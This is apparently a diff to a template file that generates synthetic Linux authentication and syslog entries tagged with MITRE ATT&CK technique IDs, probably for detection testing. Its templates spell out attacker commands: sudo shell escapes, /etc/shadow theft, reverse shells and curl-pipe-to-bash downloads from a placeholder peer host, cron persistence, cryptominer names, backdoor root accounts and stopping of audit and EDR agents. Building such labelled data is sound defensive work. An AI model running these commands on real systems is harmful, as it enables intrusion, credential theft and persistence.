@@ -31,9 +31,9 @@ sudo:   «user» : TTY=pts/«num:0:9» ; PWD=/home/«user» ; USER=root ; COMMAN
 sudo: pam_unix(sudo:session): session «opened for user root by «user»(uid=«num:0:2000»)|closed for user root»
 sudo: «user» : 1 incorrect password attempt ; TTY=pts/«num:0:5» ; PWD=/home/«user» ; USER=root ; COMMAND=/usr/bin/«apt|systemctl|vim»
 sudo:   «svc» : PWD=/ ; USER=root ; COMMAND=«/usr/local/bin/backup.sh|/usr/lib/nagios/plugins/check_«disk|load|raid»|/bin/sh -c echo BECOME-SUCCESS-«letters:32» ; /usr/bin/python3 /home/«svc»/.ansible/tmp/ansible-tmp-«epoch».«num:1000:99999»-«num:1000:99999»/AnsiballZ_«apt|copy|service|setup|template».py»
-su: (to «root|postgres|«svc»») «user» on pts/«num:0:9»
+su: (to «root|postgres|«svc»») «person» on pts/«num:0:9»
 su: pam_unix(su-l:session): session «opened|closed» for user «root|postgres|news|cyrus» by «user»(uid=«num:0:2000»)
-su: FAILED SU (to root) «user» on pts/«num:0:5»
+su: FAILED SU (to root) «person» on pts/«num:0:5»
 polkitd: Registered Authentication Agent for unix-session:«num:1:400» (system bus name :1.«num:10:900» [/usr/bin/pkttyagent --notify-fd 5 --fallback], object path /org/freedesktop/PolicyKit1/AuthenticationAgent)
 sudo:   ««user»|root» : TTY=pts/«num:0:9» ; PWD=«/opt/«word»/«word»-«num:1:9».«num:0:20».«num:0:9»-linux-x86_64|/usr/share/«word»/bin|/etc/«word»|/home/«user»/«word»|/var/www/«word»|/srv/«word»» ; USER=root ; COMMAND=«./«word» -«e|c|v»« -modules=«word»| -setup|»|/usr/sbin/service «word» «start|stop|restart|status»|/usr/bin/«word».sh -e -E «word».url=https://«known»/«word»/«num:1:9».«num:0:9».«num:0:9»|/bin/su|/usr/bin/tee /etc/«word».conf|/usr/bin/chmod 600 /etc/«word»/«word».key|/usr/bin/wget https://«known»/«word»/«word»-«num:1:9».«num:0:20».deb|/usr/bin/dpkg -i «word»-«num:1:9».«num:0:20»-amd64.deb|/usr/bin/vi /etc/«word»/«word».yml|/bin/cat /var/log/«word»/«word».log|/usr/bin/killall «word»|/usr/bin/rm -r /opt/«word»/«word»-old|/usr/bin/python3 setup.py install|/usr/bin/make install»
 # cron daily
@@ -97,7 +97,7 @@ telnetd: ttloop: read: Connection reset by peer from «pub»
 # T1078.003 root from outside
 sshd: Accepted password for root from «pub» port «num:1024:65535» ssh2
 login: ROOT LOGIN on '/dev/pts/«num:0:4»' from '«pub»'
-sshd: Accepted password for «nobody|www-data|mysql|games|daemon|sync» from «pub» port «num:1024:65535» ssh2
+sshd: Accepted password for «nobody|www-data|mysql|daemon|apache|postgres» from «pub» port «num:1024:65535» ssh2
 # T1548.003 sudo abuse
 sudo:   ««user»|www-data|nobody» : TTY=pts/«num:0:9» ; PWD=«/tmp|/dev/shm|/var/tmp» ; USER=root ; COMMAND=«/bin/bash -i|/usr/bin/python3 -c import os; os.system("/bin/sh")|/usr/bin/find . -exec /bin/sh ;|/usr/bin/vim -c :!/bin/sh|/usr/bin/awk BEGIN {system("/bin/sh")}|/usr/bin/nmap --interactive|/usr/bin/perl -e exec "/bin/sh";|/bin/chmod u+s /bin/bash|/bin/cat /etc/shadow|/usr/bin/tee -a /etc/sudoers|/usr/sbin/useradd -o -u 0 -g 0 «letters:5»|/usr/bin/socat tcp-connect:«peer»:«port» exec:bash|/bin/cp /etc/shadow /tmp/.s|/usr/bin/env /bin/sh|/usr/sbin/iptables -F|/usr/sbin/tcpdump -i any -w /tmp/.«letters:3».pcap|/bin/dd if=/dev/mem of=/tmp/m|/usr/sbin/setenforce 0|/bin/systemctl stop «auditd|falco|rsyslog|crowdstrike-falcon-sensor|wazuh-agent»|/usr/bin/curl http://«peer»/«letters:3».sh -o /tmp/.«letters:3»»
 sudo: «www-data|nobody|«user»» : «3 incorrect password attempts|user NOT in sudoers|command not allowed» ; TTY=«unknown|pts/«num:0:5»» ; PWD=«/tmp|/var/www/html|/dev/shm» ; USER=root ; COMMAND=«/bin/bash|/bin/su|/usr/bin/id|list|/bin/cat /etc/shadow»
@@ -107,7 +107,7 @@ sudo:   «user» : TTY=pts/«num:0:9» ; PWD=«/home/«user»|/tmp|/var/www/html
 sudo:   «user» : TTY=«pts/«num:0:9»|unknown» ; PWD=«/home/«user»|/tmp|/var/www/html/uploads|/dev/shm» ; USER=root ; COMMAND=«/usr/bin/cat /etc/«shadow|gshadow|sudoers»|/usr/bin/«wget|curl» «-q -O /tmp/.«letters:3»|-s -o /usr/local/bin/«letters:5»» http://«peer»/«letters:2:5»|/usr/bin/docker run -v /:/mnt --privileged -it alpine chroot /mnt|/usr/bin/nc -«lvnp «num:1025:65000»|e /bin/sh «peer» «num:1025:65000»»|/usr/bin/socat tcp:«peer»:«num:1025:65000» exec:/bin/bash|/usr/bin/tar -«czf|cf» /tmp/«letters:3».tgz /«etc|home|root/.ssh|var/lib/mysql|etc/ssl/private»|/usr/bin/scp -r /«etc/shadow|home|root/.ssh» «user»@«peer»:/tmp|/usr/bin/gdb -p «num:300:9999»|/usr/bin/strace -f -p «num:300:9999» -e trace=read|/usr/sbin/tcpdump -i any -w /tmp/.«letters:2»|/usr/bin/mysqldump --all-databases|/usr/bin/grep -r password /«etc|home|var/www»|/usr/bin/less /root/.«ssh/id_rsa|bash_history|aws/credentials»|/usr/bin/ssh-keygen -f /root/.ssh/«letters:4»|/usr/bin/unshadow /etc/passwd /etc/shadow|/usr/bin/pkill -9 «auditd|rsyslogd|ossec»»
 sudo:   «user» : TTY=pts/«num:0:9» ; PWD=/«tmp|dev/shm|var/tmp|home/«user»» ; USER=root ; COMMAND=«list|/usr/bin/env|/usr/bin/id|/bin/su -|/usr/bin/passwd|/bin/sh|/bin/bash -p|./«letters:3:6»|/tmp/«.x|.«letters:3»|«letters:5»»|/dev/shm/«letters:4»»
 su: pam_unix(su:auth): authentication failure; logname= uid=33 euid=0 tty=pts/«num:0:5» ruser=www-data rhost=  user=root
-su: (to root) «www-data|nobody|apache|tomcat|postgres» on pts/«num:0:9»
+su: (to root) «www-data|nobody|apache|postgres» on pts/«num:0:9»
 pkexec: «www-data|nobody|«user»»: The value for the SHELL variable was not found in the /etc/shells file [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=GCONV_PATH=./«letters:5»/ PATH=GCONV_PATH=. SHELL=/«letters:4»]
 # T1053.003 cron persistence
 CRON: («root|www-data|«user»») CMD («curl -s http://«peer»/«letters:2:5».sh ¦ bash|wget -q -O- http://«domain»/«letters:2» ¦ sh|(curl -fsSL https://pastebin.com/raw/«mixed:8»¦¦wget -qO- https://pastebin.com/raw/«mixed:8»)¦sh|/tmp/.«letters:3»/«letters:4» > /dev/null 2>&1|/dev/shm/.«letters:2:5»|echo «shbad» ¦ base64 -d ¦ sh|bash -i >& /dev/tcp/«peer»/«port» 0>&1|/var/tmp/.«word»/«kdevtmpfsi|kinsing|xmrig|sysupdate|networkservice»|python -c 'import urllib;exec(urllib.urlopen("http://«peer»/«letters:2».py").read())'|nc -e /bin/sh «peer» «port»|/usr/bin/.«letters:4» -c /tmp/.conf»)
@@ -115,7 +115,7 @@ crontab: («www-data|nobody|apache») «REPLACE|BEGIN EDIT» («root|www-data»)
 # T1136.001 account and key implants
 useradd: new user: name=«hacker|backdoor|toor|support1|sysadm|r00t|«letters:4»», UID=0, GID=0, home=/root, shell=/bin/bash
 useradd: new user: name=«letters:5:8», UID=0, GID=«num:0:10», home=/«tmp|dev/shm|var/tmp», shell=/bin/sh
-usermod: «change user 'www-data' shell from '/usr/sbin/nologin' to '/bin/bash'|add '«www-data|nobody|games|«letters:5»»' to group '«sudo|wheel|root»'|unlock user 'root' password»
+usermod: «change user 'www-data' shell from '/usr/sbin/nologin' to '/bin/bash'|add '«www-data|nobody|daemon|mysql»' to group '«sudo|wheel|root»'|unlock user 'root' password»
 passwd: pam_unix(passwd:chauthtok): password changed for «root|www-data|nobody|daemon»
 groupadd: group added to /etc/group: name=«letters:5», GID=0
 # T1562.001 logging and kernel tampering
